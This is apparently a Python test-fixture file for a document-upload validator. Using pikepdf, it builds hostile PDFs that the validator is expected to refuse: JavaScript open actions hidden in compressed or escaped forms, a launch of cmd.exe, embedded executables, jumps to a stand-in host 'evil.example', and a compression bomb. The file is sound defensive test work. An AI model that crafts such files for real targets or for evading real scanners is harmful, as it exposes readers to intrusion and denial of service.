"""PDFs that act on their own, are locked or broken."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from files.enums import Refusal
from tests.factories.documents import pdf_bytes

from .case import Case


def changed(change: Callable[[pikepdf.Pdf], object], **options: object) -> Callable[[], bytes]:
    """A maker of a PDF with something added."""

    def make() -> bytes:
        target = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf_bytes())) as document:
            change(document)
            document.save(target, **options)
        return target.getvalue()

    return make


def open_action(**action: object) -> Callable[[], bytes]:
    """A PDF that does something when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(Dictionary(**action))

    return changed(change)


def attach(document: pikepdf.Pdf) -> None:
    document.attachments["run.exe"] = b"MZ"


def hide_script(document: pikepdf.Pdf) -> None:
    """The word that tells stands in an object of its own, and the action in an object stream."""
    kind = document.make_indirect(Name("/JavaScript"))
    code = document.make_indirect(Stream(document, b"app.alert(1)"))
    document.Root.AA = Dictionary(WC=document.make_indirect(Dictionary(S=kind, JS=code)))


def script_on_page(document: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.pages[0].AA = Dictionary(O=action)


def named_script(document: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def unreachable_script(document: pikepdf.Pdf) -> None:
    document.Root.Hidden = document.make_indirect(
        Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    )


def dynamic_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=Stream(document, b"<xdp/>"), Fields=Array())


def file_on_page(document: pikepdf.Pdf) -> None:
    embedded = Stream(document, b"MZ", Type=Name.EmbeddedFile)
    document.pages[0].Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                FS=Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=embedded)),
            )
        ]
    )


def no_pages(document: pikepdf.Pdf) -> None:
    del document.pages[0]


def escaped_script() -> bytes:
    """The telling name is written with escapes."""
    return script_source(b"/J#61vaScript")


def script_source(name: bytes) -> bytes:
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</S" + name + b"/JS(app.alert\\(1\\))>>",
    ]
    data = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj%s endobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(data)
    return (
        data
        + b"xref\n0 5\n0000000000 65535 f \n"
        + table
        + b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start
    )


def bomb(document: pikepdf.Pdf) -> None:
    """150 megabytes of blanks as the object stream of a page: small on disk."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * 1_000_000) for _ in range(150)) + packer.flush()
    stream = Stream(document, b"")
    stream.write(data, filter=Name.FlateDecode)
    document.pages[0].Contents = stream


def locked(**passwords: str) -> Callable[[], bytes]:
    return changed(lambda document: None, encryption=pikepdf.Encryption(**passwords))


def launch() -> Callable[[], bytes]:
    return open_action(S=Name.Launch, F=String("cmd.exe"))


COMPRESSED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}

CASES = [
    Case("locked for readers", "a.pdf", locked(owner="o", user="u"), Refusal.PASSWORD),
    Case("locked for changes", "a.pdf", locked(owner="o", user=""), Refusal.PASSWORD),
    Case(
        "a script that runs when opened",
        "a.pdf",
        open_action(S=Name.JavaScript, JS=String("app.alert(1)")),
        Refusal.PDF_SCRIPT,
    ),
    Case("a script of a page", "a.pdf", changed(script_on_page), Refusal.PDF_SCRIPT),
    Case("a script by name", "a.pdf", changed(named_script), Refusal.PDF_SCRIPT),
    Case("a script in an odd place", "a.pdf", changed(unreachable_script), Refusal.PDF_SCRIPT),
    Case(
        "a script in a compressed part",
        "a.pdf",
        changed(script_on_page, **COMPRESSED),
        Refusal.PDF_SCRIPT,
    ),
    Case("a script in hiding", "a.pdf", changed(hide_script, **COMPRESSED), Refusal.PDF_SCRIPT),
    Case("a script spelled with escapes", "a.pdf", escaped_script, Refusal.PDF_SCRIPT),
    Case(
        "a video player's script",
        "a.pdf",
        open_action(S=Name.Rendition, JS=String("app.alert(1)")),
        Refusal.PDF_SCRIPT,
    ),
    Case("a form that is a program", "a.pdf", changed(dynamic_form), Refusal.PDF_SCRIPT),
    Case("a program to start", "a.pdf", launch(), Refusal.PDF_LAUNCH),
    Case("a file inside", "a.pdf", changed(attach), Refusal.PDF_ATTACHMENT),
    Case("a file pinned to a page", "a.pdf", changed(file_on_page), Refusal.PDF_ATTACHMENT),
    Case(
        "a jump into a file inside",
        "a.pdf",
        open_action(S=Name.GoToE, T=Dictionary(R=Name.C)),
        Refusal.PDF_ATTACHMENT,
    ),
    Case(
        "a jump to a network share",
        "a.pdf",
        open_action(S=Name.GoToR, F=Dictionary(F=String(r"\\evil.example\share\a.pdf"))),
        Refusal.REMOTE_CONTENT,
    ),
    Case(
        "data from elsewhere",
        "a.pdf",
        open_action(S=Name.ImportData, F=String("http://evil.example/a.fdf")),
        Refusal.REMOTE_CONTENT,
    ),
    Case("a page that unpacks without end", "a.pdf", changed(bomb), Refusal.BOMB),
    Case("no pages", "a.pdf", changed(no_pages), Refusal.DAMAGED),
    Case("a PDF cut off", "a.pdf", lambda: pdf_bytes()[:200], Refusal.DAMAGED),
    Case("only a beginning", "a.pdf", lambda: b"%PDF-1.7\n", Refusal.DAMAGED),
    Case("noise behind the mark", "a.pdf", lambda: b"%PDF-1.7\n" + b"\xff" * 5000, Refusal.DAMAGED),
]
